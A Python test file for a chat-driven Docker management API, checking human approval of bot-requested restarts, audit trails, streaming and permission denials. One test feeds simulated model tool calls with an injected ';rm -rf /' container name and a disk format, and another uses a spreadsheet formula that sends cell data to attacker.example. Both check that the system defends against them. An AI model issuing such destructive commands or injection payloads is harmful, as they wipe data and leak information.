"""Chat end to end (the issue's "done when"): a bot asks for a restart, a person approves it,
it runs exactly once, and the audit trail links request, proposal, approver and execution."""

from __future__ import annotations

import csv
import io
import time
from datetime import datetime, timedelta, timezone
from typing import Any

import docker

from tests.api.helpers import assert_refused, sse_events, started_at, tool_call


def engine_events(client: docker.DockerClient, container_id: str, since_ns: int) -> list[str]:
    """Lifecycle actions the engine itself recorded for a container after `since_ns`."""
    events = client.events(
        since=since_ns // 1_000_000_000,
        until=int(time.time()) + 1,
        decode=True,
        filters={"container": container_id},
    )
    return [str(e.get("Action")) for e in events if int(e.get("timeNano", 0)) > since_ns]


def test_bot_asks_operator_approves_restart_runs_once(
    client, model, bot_headers, user_headers, make_container, docker_client
):
    container = make_container("chat-restart")
    before = started_at(docker_client, container.id)
    since = time.time_ns()
    model.say(tool_call("restart_container", container=container.name), "Restarted it.")

    asked = client.post(
        "/api/chat",
        json={"message": f"please restart {container.name}"},
        headers=bot_headers["operator"],
    )

    assert asked.status_code == 200, asked.text
    turn = asked.json()
    [approval] = turn["approvals"]
    assert approval["status"] == "pending" and approval["tool"] == "restart_container"
    assert approval["targets"][0]["id"] == container.id
    assert approval["requested_by"].startswith("bot:bot-operator#")
    assert [c["status"] for c in turn["tool_calls"]] == ["pending_approval"]
    assert approval["id"] in turn["reply"]
    assert started_at(docker_client, container.id) == before  # nothing ran yet

    decided = client.post(
        f"/api/approvals/{approval['id']}",
        json={"decision": "approve"},
        headers=user_headers["operator"],
    )

    assert decided.status_code == 200, decided.text
    result = decided.json()
    assert result["outcome"]["status"] == "executed"
    assert result["approval"]["decided_by"] == "oscar"
    assert result["chat"]["thread_id"] == turn["thread_id"]
    assert result["chat"]["reply"] == "Restarted it."
    assert [c["status"] for c in result["chat"]["tool_calls"]] == ["executed"]

    # Exactly once: one new start, one restart, as the engine saw it.
    assert started_at(docker_client, container.id) != before
    actions = engine_events(docker_client, container.id, since)
    assert actions.count("restart") == 1, actions
    assert actions.count("start") == 1, actions
    assert_refused(
        client.post(
            f"/api/approvals/{approval['id']}",
            json={"decision": "approve"},
            headers=user_headers["admin"],
        ),
        409,
    )

    # The audit chain: proposed (by the bot) -> approved (by oscar) -> executed.
    trail = client.get(
        "/api/audit", params={"approval_id": approval["id"]}, headers=user_headers["operator"]
    ).json()  # oscar approved it, so its entries are his to see (a viewer's: its own only)
    chain = sorted(trail, key=lambda e: e["id"])
    assert [e["event"] for e in chain] == ["proposed", "approved", "executed"]
    [bot] = {e["actor"] for e in chain}
    assert bot.startswith("bot:bot-operator#")  # by token ID
    assert all(e["tool"] == "restart_container" for e in chain)
    assert [e["approver"] for e in chain] == [None, "oscar", "oscar"]
    assert chain[0]["request"] == f"please restart {container.name}"
    assert {e["thread_id"] for e in chain} == {turn["thread_id"]}

    exported = client.get(
        "/api/audit",
        params={"approval_id": approval["id"], "format": "csv"},
        headers=user_headers["operator"],
    )
    assert exported.status_code == 200
    assert exported.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    assert sorted((r["event"], r["actor"], r["approver"]) for r in rows) == [
        ("approved", bot, "oscar"),
        ("executed", bot, "oscar"),
        ("proposed", bot, ""),
    ]


def test_stream_emits_thread_tool_call_approval_and_done(
    client, model, bot_headers, make_container, docker_client
):
    container = make_container("chat-stream")
    before = started_at(docker_client, container.id)
    model.say(tool_call("restart_container", container=container.name))

    with client.stream(
        "POST",
        "/api/chat/stream",
        json={"message": f"restart {container.name}"},
        headers=bot_headers["operator"],
    ) as response:
        assert response.status_code == 200
        assert response.headers["content-type"].startswith("text/event-stream")
        events = sse_events(response.read().decode())

    names = [name for name, _ in events]
    assert names[0] == "thread" and names[-1] == "done", names
    assert names.index("tool_call") < names.index("approval") < names.index("done")
    data: dict[str, Any] = {name: payload for name, payload in events}
    assert data["tool_call"] == {"tool": "restart_container", "args": {"container": container.name}}
    assert data["approval"]["status"] == "pending"
    assert data["approval"]["targets"][0]["id"] == container.id
    assert data["done"]["thread_id"] == data["thread"]["thread_id"]
    assert [a["id"] for a in data["done"]["approvals"]] == [data["approval"]["id"]]
    assert started_at(docker_client, container.id) == before


def test_a_read_request_runs_without_approval(client, model, user_headers, make_container):
    container = make_container("chat-read")
    model.say(tool_call("inspect_container", container=container.name), "It is running.")

    response = client.post(
        "/api/chat", json={"message": f"how is {container.name}?"}, headers=user_headers["viewer"]
    )

    assert response.status_code == 200, response.text
    body = response.json()
    assert body["reply"] == "It is running." and body["approvals"] == []
    [call] = body["tool_calls"]
    assert call["tool"] == "inspect_container" and call["status"] == "executed"


def test_a_viewer_asking_for_a_change_is_denied_and_nothing_runs(
    client, model, user_headers, make_container, docker_client
):
    container = make_container("chat-denied")
    before = started_at(docker_client, container.id)
    model.say(tool_call("stop_container", container=container.name), "I may not do that.")

    response = client.post(
        "/api/chat", json={"message": f"stop {container.name}"}, headers=user_headers["viewer"]
    )

    assert response.status_code == 200, response.text
    assert [c["status"] for c in response.json()["tool_calls"]] == ["denied"]
    assert response.json()["approvals"] == []
    assert started_at(docker_client, container.id) == before


def test_hostile_tool_calls_from_the_model_are_refused(
    client, model, user_headers, make_container, docker_client
):
    container = make_container("chat-hostile")
    before = started_at(docker_client, container.id)
    model.say(
        tool_call("remove_container", container=";rm -rf /", force=True),
        tool_call("format_disk", device="/dev/sda"),
        tool_call("stop_container", container=container.name, privileged=True),
        "I could not do any of that.",
    )

    response = client.post(
        "/api/chat", json={"message": "do damage"}, headers=user_headers["admin"]
    )

    assert response.status_code == 200, response.text
    statuses = [c["status"] for c in response.json()["tool_calls"]]
    assert "executed" not in statuses and "pending_approval" not in statuses, statuses
    assert started_at(docker_client, container.id) == before


def test_a_thread_waiting_for_approval_takes_no_new_turn(
    client, model, user_headers, make_container
):
    container = make_container("chat-wait")
    model.say(tool_call("restart_container", container=container.name))
    first = client.post(
        "/api/chat", json={"message": "restart it"}, headers=user_headers["operator"]
    ).json()
    assert first["approvals"]

    again = client.post(
        "/api/chat",
        json={"message": "and again", "thread_id": first["thread_id"]},
        headers=user_headers["operator"],
    )
    body = assert_refused(again, 422)
    assert "approval" in body["detail"]


def test_audit_time_filters_honour_the_zone_offset(client, user_headers, make_container):
    container = make_container("audit-tz")
    # A change request, not a read: reads are counted per hour (audit_reads), not rows.
    proposed = client.post(
        f"/api/containers/{container.name}/restart", headers=user_headers["operator"]
    )
    assert proposed.status_code == 202, proposed.text
    query = {"actor": "oscar", "tool": "restart_container", "event": "proposed"}
    [entry] = client.get(
        "/api/audit", params={**query, "limit": 1}, headers=user_headers["operator"]
    ).json()
    ts = datetime.fromisoformat(entry["ts"].replace("Z", "+00:00"))

    def ids(since: datetime) -> set[int]:
        response = client.get(
            "/api/audit",
            params={**query, "since": since.isoformat()},
            headers=user_headers["operator"],
        )
        assert response.status_code == 200, response.text
        return {e["id"] for e in response.json()}

    # The same instants written in other zones.
    assert entry["id"] in ids((ts - timedelta(seconds=1)).astimezone(timezone(timedelta(hours=5))))
    assert entry["id"] not in ids(
        (ts + timedelta(seconds=1)).astimezone(timezone(timedelta(hours=-5)))
    )


def test_csv_export_defuses_spreadsheet_formulas(client, model, user_headers):
    request = '=HYPERLINK("http://attacker.example/?"&A1,"open")'
    # A refused change is an audit row (reads are only counted), with the request it came from.
    model.say(tool_call("restart_container", container="csv-target"), "ok")
    assert (
        client.post(
            "/api/chat", json={"message": request}, headers=user_headers["viewer"]
        ).status_code
        == 200
    )

    exported = client.get(
        "/api/audit",
        params={"actor": "victor", "tool": "restart_container", "limit": 1, "format": "csv"},
        headers=user_headers["viewer"],
    )
    [row] = list(csv.DictReader(io.StringIO(exported.text)))
    assert row["request"] == "'" + request
    # JSON keeps the exact text.
    [entry] = client.get(
        "/api/audit",
        params={"actor": "victor", "tool": "restart_container", "limit": 1},
        headers=user_headers["viewer"],
    ).json()
    assert entry["request"] == request


def test_dry_run_plans_and_changes_nothing(
    client, model, user_headers, make_container, docker_client
):
    container = make_container("chat-dry")
    before = started_at(docker_client, container.id)
    model.say(tool_call("restart_container", container=container.name), "That is the plan.")

    response = client.post(
        "/api/chat",
        json={"message": f"restart {container.name}", "dry_run": True},
        headers=user_headers["operator"],
    )

    assert response.status_code == 200, response.text
    assert [c["status"] for c in response.json()["tool_calls"]] == ["planned"]
    assert response.json()["approvals"] == []
    assert started_at(docker_client, container.id) == before
